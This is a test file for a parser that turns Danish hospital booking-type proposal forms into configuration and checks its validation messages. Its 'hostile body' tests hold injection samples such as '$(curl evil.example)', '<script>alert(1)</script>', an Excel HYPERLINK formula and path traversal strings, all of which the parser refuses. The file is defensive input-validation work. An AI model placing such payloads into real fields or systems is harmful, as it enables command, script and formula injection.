import { describe, expect, test } from 'vitest';
import { type ReadProposal, readProposal } from '../../scripts/propose/read-proposal.ts';
import { ANSWERS, fields, issueBody } from '../support/proposal.ts';

const FIELDS = await fields();

function read(body: string, isPlain = false): ReadProposal {
  return readProposal(body, FIELDS, { isPlain });
}

/** What a person reads, each with the question it is about. */
function refusals(body: string, isPlain = false): readonly string[] {
  const result = read(body, isPlain);
  return 'refusals' in result ? result.refusals.map(({ field, message }) => `${field ?? '–'}: ${message.da}`) : [];
}

function refusalsOf(changed: Readonly<Record<string, string>>): readonly string[] {
  return refusals(issueBody(changed));
}

describe('a form filled in right', () => {
  test('becomes a type file and what reviewers need', () => {
    expect(Object.keys(ANSWERS)).toEqual(FIELDS.map(({ label }) => label));
    const made = read(issueBody());
    expect('proposal' in made && made.proposal).toEqual({
      set: 'kardiologi',
      file: {
        id: 'arbejdstest',
        name: 'Arbejdstest',
        abbreviation: 'ARB',
        patientName: 'Cykeltest af hjertet',
        patientText: { 'in-person': 'Du cykler, mens vi måler hjertets rytme.' },
        description: 'Test på cykel med måling af hjertets rytme.',
        purpose: 'examination',
        modes: ['in-person'],
        duration: { default: 45, allowed: [30, 45, 60] },
        resources: { staff: [{ anyOf: ['laege', 'sygeplejerske'] }], room: 'ekkolaboratorium' },
        selfBooking: 'reschedule',
        synonyms: ['Cykeltest', 'AKG-test'],
        lifecycle: { from: '2027-01-01' },
      },
      reviewers: {
        department: 'Hjertemedicinsk Ambulatorium',
        wantedFrom: '2027-01-01',
        temporaryUntil: undefined,
        whyNotExisting: 'Ingen af dem er på cykel.',
        bookingsAYear: 1200,
        departments: ['Holbæk', 'Slagelse'],
        heard: ['management'],
        heardAnswers: 'Enig.',
      },
    });
  });

  test('says the same with Windows line ends, a byte order mark and decomposed letters', () => {
    const same = `\uFEFF${issueBody().normalize('NFD').replaceAll('\n', '\r\n')}`;
    expect(read(same)).toEqual(read(issueBody()));
  });

  test('takes no answer, or None in a list, for nothing', () => {
    const nothing = { Forkortelse: '_No response_', Lokale: 'None', 'Tilladte varigheder': 'None', Synonymer: '' };
    expect(read(issueBody(nothing))).toMatchObject({
      proposal: { file: { duration: { default: 45, allowed: [45] }, resources: { staff: [{}] } } },
    });
    expect(read(issueBody(nothing))).not.toHaveProperty('proposal.file.abbreviation');
    expect(read(issueBody(nothing))).not.toHaveProperty('proposal.file.synonyms');
    expect(read(issueBody(nothing))).not.toHaveProperty('proposal.file.resources.room');
  });

  test('makes a type temporary by closing it for booking', () => {
    expect(read(issueBody({ 'Midlertidig til': '1.4.2027' }))).toMatchObject({
      proposal: { file: { lifecycle: { from: '2027-01-01', closeForBooking: '2027-04-01' } } },
    });
  });

  test('may want all of the staff, and be for every speciality', () => {
    const all = { 'Alle eller én?': 'Alle skal være til stede', Speciale: 'Fælles for flere specialer' };
    expect(read(issueBody(all))).toMatchObject({
      proposal: { set: 'common', file: { resources: { staff: [{ role: 'laege' }, { role: 'sygeplejerske' }] } } },
    });
  });
});

describe('a text to the patient', () => {
  const twoModes = { Former: 'Fremmøde, Telefon' };
  const textOf = (text: string) => {
    const made = read(issueBody({ ...twoModes, 'Tekst til patienten': text }));
    return 'proposal' in made
      ? made.proposal.file.patientText
      : made.refusals.map(({ field, message }) => [field, message.da]);
  };

  test('without the name of a mode is for every mode that is chosen', () => {
    expect(textOf('Husk dit\nsygesikringskort.')).toEqual({
      'in-person': 'Husk dit sygesikringskort.',
      telephone: 'Husk dit sygesikringskort.',
    });
  });

  test('may differ by mode, in any order, over several lines, and be left out for one', () => {
    const both = { 'in-person': 'Mød op. I god tid.', telephone: 'Vi ringer: hav tid.' };
    expect(textOf('- telefon : Vi ringer: hav tid.\nFremmøde:\nMød op.\n\nI god tid.')).toEqual(both);
    expect(textOf('TELEPHONE: Vi ringer.\nFremmøde:')).toEqual({ telephone: 'Vi ringer.' });
  });

  test('that is empty is no text', () => {
    for (const text of ['', '_No response_', 'Telefon:']) expect(textOf(text)).toBeUndefined();
  });

  test.each([
    [
      'for a mode that is not chosen',
      'Fremmøde: Mød op.\nVideo: Log på.',
      'Der er en tekst til "Video", som ikke er valgt under "Former": vælg formen dér, eller slet teksten.',
    ],
    [
      'for a mode twice',
      'Telefon: Vi ringer.\nTelefon: Husk det.',
      'Der er to tekster til "Telefon": skriv dem sammen til én.',
    ],
    [
      'before the first mode',
      'Husk kort.\nTelefon: Vi ringer.',
      'Det, der står før "Telefon:", hører ikke til nogen form: begynd hver tekst med en forms navn og et kolon.',
    ],
    ['for a misspelt mode', 'Fremøde: Mød op.', '"Fremøde:" er ingen af formerne – mente du "Fremmøde:"?'],
    [
      'that is a formula',
      'Telefon: =1+1',
      '"=1+1" begynder med = og kan blive en formel i Excel: begynd med et bogstav eller tal.',
    ],
  ])('%s is refused', (_, text, told) => {
    expect(textOf(text)).toEqual([['Tekst til patienten', told]]);
  });
});

describe('every answer that cannot be used', () => {
  test('is told with its question, its value, what is wrong and what to do, all at once', () => {
    expect(
      refusalsOf({
        'Foreslået af': 'hanne@sygehus.example',
        Speciale: 'Kardiologo',
        Navn: '_No response_',
        Formål: 'Noget helt andet',
        Standardvarighed: '47 min',
        'Ønskes fra': '31.02.2027',
        'Forventede bookinger om året': 'mange',
        'Ingen patientoplysninger':
          '- [ ] Forslaget indeholder ingen oplysninger om patienter og ingen navne på personer',
      }),
    ).toEqual([
      'Foreslået af: Forslaget kommer fra en afdeling, ikke en person: skriv afdelingens navn, uden personnavne, mailadresse eller brugernavn.',
      'Speciale: "Kardiologo" kan ikke vælges – mente du "Kardiologi"?',
      'Navn: Svaret mangler: udfyld feltet.',
      'Formål: "Noget helt andet" kan ikke vælges: vælg et af formularens svar: Undersøgelse.',
      'Standardvarighed: "47 min" er ikke en varighed: skriv et antal minutter, der går op i fem, fx 45 min.',
      'Ønskes fra: "31.02.2027" er ikke en dato, der findes: skriv den som ÅÅÅÅ-MM-DD.',
      'Forventede bookinger om året: "mange" er ikke et tal, vi kan bruge: skriv fx 250.',
      'Ingen patientoplysninger: Bekræft, at det er rigtigt: "Forslaget indeholder ingen oplysninger om patienter og ingen navne på personer".',
    ]);
  });

  test('is told where two do not go together', () => {
    expect(refusalsOf({ Navn: '()', 'Alle eller én?': '_No response_', 'Midlertidig til': '2026-12-31' })).toEqual([
      'Navn: Navnet har ingen bogstaver: skriv, hvad der sker.',
      'Alle eller én?: Der er valgt flere under personale: vælg, om alle skal være til stede, eller om én er nok.',
      'Midlertidig til: En midlertidig type lukkes efter den dag, den tages i brug (2027-01-01): ret en af datoerne.',
    ]);
  });

  test('is told where it is too long, or on two lines', () => {
    expect(refusalsOf({ Beskrivelse: 'æ'.repeat(1001), Forkortelse: 'A\nB' })).toEqual([
      'Forkortelse: Svaret fylder flere linjer: skriv det på én.',
      'Beskrivelse: Svaret er på 1001 tegn: skær det ned til højst 1000.',
    ]);
  });
});

describe('a hostile body', () => {
  test.each([
    [
      'with a heading within an answer, before the real one',
      { 'Tekst til patienten': 'Test.\n\n### Formål\n\nKontrol' },
      [
        'Formål: Overskriften "Formål" står flere gange, så vi kan ikke se, hvilket svar der gælder: lad den stå én gang.',
      ],
    ],
    [
      'with a heading within an answer, after the real one',
      { Synonymer: 'Test\n### Speciale\nRadiologi' },
      [
        'Speciale: Overskriften "Speciale" står flere gange, så vi kan ikke se, hvilket svar der gælder: lad den stå én gang.',
      ],
    ],
    [
      'with a heading in a fence',
      { Beskrivelse: '```\n### Navn\nAndet\n```' },
      ['Navn: Overskriften "Navn" står flere gange, så vi kan ikke se, hvilket svar der gælder: lad den stå én gang.'],
    ],
    [
      'with an unknown heading',
      { Beskrivelse: 'Test.\n### Godkendt af\nAlle' },
      [
        'Beskrivelse: "Godkendt af" er skrevet som en overskrift, men er ingen af formularens: slet tegnene # foran linjen.',
      ],
    ],
    [
      'with headings that only look like one of the form',
      { Beskrivelse: 'Test.\n  ## n a v n\nA\n###### ＮＡＶＮ\nB\n> ### Navn\nC' },
      [
        'Beskrivelse: "n a v n" er skrevet som en overskrift, men er ingen af formularens: slet tegnene # foran linjen.',
        'Beskrivelse: "ＮＡＶＮ" er skrevet som en overskrift, men er ingen af formularens: slet tegnene # foran linjen.',
        'Beskrivelse: "Navn" er skrevet som en overskrift, men er ingen af formularens: slet tegnene # foran linjen.',
      ],
    ],
    [
      'with YAML in its name',
      { Navn: 'Test\nowners: [alle]\napproval: {status: approved}' },
      ['Navn: Svaret fylder flere linjer: skriv det på én.'],
    ],
    [
      'with a shell in its name',
      { Navn: '$(curl evil.example)' },
      ['Navn: "$(curl evil.example)" indeholder tegnet $: brug kun bogstaver, tal, mellemrum og - / ( ) . , + & \'.'],
    ],
    [
      'with backticks in its abbreviation',
      { Forkortelse: '`id`' },
      ['Forkortelse: "`id`" indeholder tegnet `: brug kun bogstaver, tal, mellemrum og - / ( ) . , + & \'.'],
    ],
    [
      'with a script in the name for the patient',
      { 'Navn til patienten': '<script>alert(1)</script>' },
      [
        'Navn til patienten: "<script>alert(1)</script>" indeholder tegnet <: brug kun bogstaver, tal, mellemrum og - / ( ) . , + & \'.',
      ],
    ],
    [
      'with a name that turns the writing about',
      { Navn: 'Arbejds\u202Etset' },
      ['Navn: Svaret indeholder et usynligt tegn (U+202E), måske fra en kopieret tekst: skriv stedet igen i hånden.'],
    ],
    [
      'with NUL',
      { Beskrivelse: 'Test\u0000test' },
      [
        'Beskrivelse: Svaret indeholder et usynligt tegn (U+0000), måske fra en kopieret tekst: skriv stedet igen i hånden.',
      ],
    ],
    [
      'with a formula',
      { Beskrivelse: '=HYPERLINK("http://evil.example")', Synonymer: '@SUM(A1)' },
      [
        'Beskrivelse: "=HYPERLINK("http://evil.example")" begynder med = og kan blive en formel i Excel: begynd med et bogstav eller tal.',
        'Synonymer: "@SUM(A1)" begynder med @ og kan blive en formel i Excel: begynd med et bogstav eller tal.',
      ],
    ],
    [
      'of a speciality that is a path',
      { Speciale: '../../.github/workflows' },
      [
        'Speciale: "../../.github/workflows" kan ikke vælges: vælg et af formularens svar: Kardiologi, Fælles for flere specialer.',
      ],
    ],
  ])('%s is refused', (_, changed, expected) => {
    expect(refusalsOf(changed as Readonly<Record<string, string>>)).toEqual(expected);
  });

  test('with a path as its name has an id that is none', () => {
    const result = read(issueBody({ Navn: '../../etc/passwd.yaml' }));
    expect(result).toMatchObject({ proposal: { file: { id: 'etc-passwd-yaml' } } });
  });

  test('with something like a CPR number is refused without a word of it, or of anything else', () => {
    for (const number of ['010190-1234', '0101901234', '010190\n1234', '010190\r\n-1234']) {
      const told = refusals(issueBody({ Beskrivelse: `Patienten ${number} kom`, Navn: '$(id)' }));
      expect(told).toHaveLength(1);
      expect(told[0]).toMatch(/^Beskrivelse: Her står noget, der ligner et CPR-nummer\. Slet det med det samme/);
      expect(told[0]).not.toMatch(/0101|1234/);
    }
  });

  test('with something like a CPR number outside every answer is refused too', () => {
    expect(refusals(`010190-1234\n${issueBody()}`)[0]).toMatch(/^–: Her står noget, der ligner et CPR-nummer/);
  });

  test('of a megabyte is not read', () => {
    expect(refusals(`### Navn\n\n${'x'.repeat(1_000_000)}`)).toEqual([
      '–: Teksten er over 65536 tegn og er ikke læst: udfyld formularen, og hold svarene korte.',
    ]);
  });

  test('with questions in another order is refused', () => {
    const { Navn: name = '', ...rest } = ANSWERS;
    const body = Object.entries({ ...rest, Navn: name }).map(([label, answer]) => `### ${label}\n\n${answer}`);
    expect(refusals(body.join('\n\n'))).toEqual([
      'Navn: Overskriften "Navn" står efter "Ingen patientoplysninger", men hører til før: sæt overskrifterne i formularens rækkefølge, og brug dem ikke inde i et svar.',
    ]);
  });

  test('with something before the first question is refused', () => {
    expect(refusals(`Hej\n${issueBody()}`)).toEqual([
      '–: Der står noget før den første overskrift: slet det, eller flyt det ned under det spørgsmål, det svarer på.',
    ]);
  });

  test('that is empty, or no form, is told what is missing', () => {
    expect(refusals('')).toContain('Navn: Svaret mangler: udfyld feltet.');
    expect(refusals('')).toHaveLength(FIELDS.filter(({ isRequired }) => isRequired).length);
  });
});

describe('the same as text in a mail', () => {
  const mail = (separator: string): string =>
    Object.entries(ANSWERS)
      .filter(([, answer]) => answer !== '_No response_')
      .map(([label, answer]) => `${label}${separator}${answer.replace(/^- \[X\] .*/, 'Ja')}`)
      .join('\n');

  test.each([['\n'], [':\n'], [': ']])('is read without marks before its headings (%j)', (separator) => {
    expect(read(`Hej ejere\n\n${mail(separator)}`, true)).toEqual(read(issueBody()));
  });

  test('is not taken for an issue', () => {
    expect(refusals(mail('\n'))).not.toEqual([]);
  });

  test('is as strict about a label within an answer', () => {
    expect(refusals(mail('\n').replace('Cykeltest\n', 'Cykeltest\nFormål: Kontrol\n'), true)).toEqual([
      'Formål: Overskriften "Formål" står flere gange, så vi kan ikke se, hvilket svar der gælder: lad den stå én gang.',
    ]);
  });
});
